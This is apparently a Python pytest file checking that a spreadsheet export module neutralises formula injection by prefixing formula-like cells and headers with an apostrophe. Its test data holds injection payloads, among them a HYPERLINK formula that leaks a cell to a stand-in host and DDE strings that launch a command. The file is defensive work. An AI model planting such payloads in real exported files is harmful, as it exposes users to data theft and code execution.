"""No cell of a table for spreadsheets is computed: what begins as a formula has an apostrophe before it."""

import openpyxl
import pandas as pd
import pytest

from herelib.files import formulas, workbooks

HARMFUL = ['=HYPERLINK("http://a.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "+SUM(A1)", "-SUM(A1)", "@SUM(A1)",
           "\t=1+1", "\r=1", "\n=1", " =1+1", "＝1+1", "=1+1", "-2+3+cmd|' /C calc'!A0"]  # fmt: skip
HARMLESS = ["-1.5", "+371 29 123 456", "-1,5", "2026-01-02", "a@b", "1=1", "", "yes", "-1e-05", "-7 %", "'quoted"]


@pytest.mark.parametrize("text", HARMFUL)
def test_formulas_are_marked_in_cells_and_headers(text):
    table, count = formulas.neutral(pd.DataFrame({text: [text, "a"]}))
    assert count == 2 and table.columns.tolist() == [f"'{text}"] and table.iloc[:, 0].tolist() == [f"'{text}", "a"]


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_dates_phones_and_words_stay(text):
    frame = pd.DataFrame({"a": [text], "n": [-1.5], "whole": [-3]})
    table, count = formulas.neutral(frame)
    assert count == 0 and table.equals(frame)


def test_two_columns_of_one_name_and_the_lines_stay():
    frame = pd.DataFrame([["=1", "b"], ["c", "=2"]], columns=["a", "a"], index=[3, 7])
    table, count = formulas.neutral(frame)
    assert count == 2 and table.columns.tolist() == ["a", "a"] and table.index.tolist() == [3, 7]
    assert frame.iloc[0, 0] == "=1"


def test_a_workbook_holds_texts_and_no_formulas(tmp_path):
    file = workbooks.write_workbook(tmp_path / "a.xlsx", {"a": [["=1+1", "x"], ["b", "=2"]]})
    sheet = openpyxl.load_workbook(file)["a"]
    assert [[(cell.value, cell.data_type) for cell in row] for row in sheet] == [
        [("=1+1", "s"), ("x", "s")],
        [("b", "s"), ("=2", "s")],
    ]
